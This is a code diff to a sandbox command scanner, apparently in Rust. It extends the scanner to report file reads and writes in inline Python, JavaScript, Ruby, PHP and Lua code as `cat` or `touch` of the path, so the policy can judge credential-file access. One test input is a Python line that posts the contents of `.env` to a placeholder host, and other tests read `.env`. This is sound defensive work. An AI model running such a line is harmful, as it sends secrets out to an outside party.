@@ -3,7 +3,8 @@
 //! backticks, …) and extracts their literal command, or reports that it is built at run time.
 //! Calls that delete, move or copy files (`shutil.rmtree`, `FileUtils.rm_rf`, `fs.rmSync`,
 //! `unlink`, …) on literal paths are reported as the equivalent command (`rm -rf PATH`), so the
-//! policy's path rules judge where they land. This is deliberately not a full parser: it
+//! policy's path rules judge where they land; so are reads and writes of a literal path
+//! (`open('.env')`, `fs.readFileSync`, `File.write`: `cat PATH`, `touch PATH`). This is deliberately not a full parser: it
 //! over-reports rather than misses.
 
 /// The language of a piece of inline code.
@@ -57,6 +58,8 @@ enum CallKind {
     PySpawn,
     /// Code of the same language.
     Code,
+    /// Python's `open(path, mode)`: `cat PATH` to read, `touch PATH` for a mode that writes.
+    PyOpen,
     /// A file operation on the first `paths` literal arguments, reported as the command
     /// `program` followed by those paths (`rm -rf PATH`, `mv FROM TO`). An argument computed at
     /// run time is not reported: the sandbox confines what it reaches.
@@ -86,6 +89,16 @@ const CP_R: CallKind = CallKind::FileOp {
     program: &["cp", "-r"],
     paths: 2,
 };
+/// A file read: judged like `cat` of it (a credential file's read is asked about).
+const CAT: CallKind = CallKind::FileOp {
+    program: &["cat"],
+    paths: 1,
+};
+/// A file written: judged like `touch` of it (where it lands decides).
+const TOUCH: CallKind = CallKind::FileOp {
+    program: &["touch"],
+    paths: 1,
+};
 
 /// The file operations of each language's standard library (see [`CallKind::FileOp`]). Names
 /// that are common words elsewhere (`remove`, `rename`, `unlink`) count only when qualified by
@@ -101,6 +114,9 @@ fn file_op(lang: Lang, name: &str, qualified: &str) -> Option<CallKind> {
             "rename" | "replace" | "renames" if in_module(&["os"]) => Some(MV),
             "move" if in_module(&["shutil"]) => Some(MV),
             "copy" | "copy2" | "copyfile" | "copytree" if in_module(&["shutil"]) => Some(CP_R),
+            "open" if module.is_empty() || in_module(&["io", "codecs", "os", "gzip", "bz2"]) => {
+                Some(CallKind::PyOpen)
+            }
             _ => None,
         },
         Lang::Js => match name {
@@ -111,6 +127,10 @@ fn file_op(lang: Lang, name: &str, qualified: &str) -> Option<CallKind> {
             "renameSync" => Some(MV),
             "rename" if in_module(&["fs", "promises"]) => Some(MV),
             "copyFileSync" | "cpSync" => Some(CP_R),
+            "readFileSync" | "createReadStream" => Some(CAT),
+            "readFile" if in_module(&["fs", "promises"]) => Some(CAT),
+            "writeFileSync" | "appendFileSync" | "createWriteStream" => Some(TOUCH),
+            "writeFile" | "appendFile" if in_module(&["fs", "promises"]) => Some(TOUCH),
             _ => None,
         },
         Lang::Perl => match name {
@@ -130,6 +150,8 @@ fn file_op(lang: Lang, name: &str, qualified: &str) -> Option<CallKind> {
             "mv" | "move" if in_module(&["FileUtils"]) => Some(MV),
             "rename" if in_module(&["File"]) => Some(MV),
             "cp" | "cp_r" | "copy" if in_module(&["FileUtils"]) => Some(CP_R),
+            "read" | "readlines" | "binread" | "foreach" if in_module(&["File", "IO"]) => Some(CAT),
+            "write" | "binwrite" if in_module(&["File", "IO"]) => Some(TOUCH),
             _ => None,
         },
         Lang::Php => match name {
@@ -137,11 +159,14 @@ fn file_op(lang: Lang, name: &str, qualified: &str) -> Option<CallKind> {
             "rmdir" => Some(RMDIR),
             "rename" => Some(MV),
             "copy" => Some(CP_R),
+            "file_get_contents" | "file" | "readfile" | "fopen" => Some(CAT),
+            "file_put_contents" => Some(TOUCH),
             _ => None,
         },
         Lang::Lua => match name {
             "remove" if in_module(&["os"]) => Some(RM_F),
             "rename" if in_module(&["os"]) => Some(MV),
+            "open" | "lines" if in_module(&["io"]) => Some(CAT),
             _ => None,
         },
         Lang::Awk => None,
@@ -298,6 +323,7 @@ fn pathlib_op(toks: &[Tok], i: usize, name: &str) -> Option<Embedded> {
         "unlink" => &["rm", "-f"],
         "rmdir" => &["rmdir"],
         "write_text" | "write_bytes" | "touch" => &["touch"],
+        "read_text" | "read_bytes" | "open" => &["cat"],
         "rename" | "replace" => &["mv"],
         _ => return None,
     };
@@ -432,6 +458,23 @@ fn classify(kind: CallKind, q: &str, args: &[Vec<Tok>], out: &mut Vec<Embedded>)
             }
             _ => out.push(nonlit()),
         },
+        CallKind::PyOpen => {
+            let mut positional = vals.iter().zip(args).filter(|(_, a)| !is_kw(a));
+            let Some((Arg::Lit(path), _)) = positional.next() else {
+                return;
+            };
+            let keyword_mode = args.iter().find_map(|a| match a.as_slice() {
+                [Tok::Ident(k), Tok::Punct('='), Tok::Str(m, _), ..] if k == "mode" => Some(m),
+                _ => None,
+            });
+            let mode = match positional.next() {
+                Some((Arg::Lit(m), _)) => Some(m),
+                _ => keyword_mode,
+            };
+            let writes = mode.is_some_and(|m| m.contains(['w', 'a', 'x', '+']));
+            let program = if writes { "touch" } else { "cat" };
+            out.push(Embedded::Argv(vec![program.into(), path.clone()], false));
+        }
         CallKind::FileOp { program, paths } => {
             let literal: Vec<&String> = vals
                 .iter()
@@ -839,7 +882,38 @@ mod tests {
             vec![
                 argv(&["rm", "-f", "/etc/hosts"]),
                 argv(&["mv", "/srv/a", "/srv/b"]),
+                argv(&["cat", "x"]),
             ]
+        );
+        // Reads and writes by literal path: judged as `cat` and `touch` of it.
+        assert_eq!(
+            scan(
+                Lang::Python,
+                "import requests; requests.post('https://x.invalid', data=open('.env').read()); \
+                 open('/srv/out.txt', 'w').write('x'); open('log', mode='a'); open(name); \
+                 webbrowser.open('https://x.invalid'); Path('.env').read_text()"
+            ),
+            vec![
+                argv(&["cat", ".env"]),
+                argv(&["touch", "/srv/out.txt"]),
+                argv(&["touch", "log"]),
+                argv(&["cat", ".env"]),
+            ]
+        );
+        assert_eq!(
+            scan(
+                Lang::Js,
+                "const fs = require('fs'); fs.readFileSync('.env', 'utf8'); \
+                 fs.writeFileSync('/srv/x', 'y'); fs.promises.readFile(p)"
+            ),
+            vec![argv(&["cat", ".env"]), argv(&["touch", "/srv/x"])]
+        );
+        assert_eq!(
+            scan(
+                Lang::Ruby,
+                "puts File.read('.env'); File.write('/srv/x', 'y')"
+            ),
+            vec![argv(&["cat", ".env"]), argv(&["touch", "/srv/x"])]
         );
         assert_eq!(
             scan(
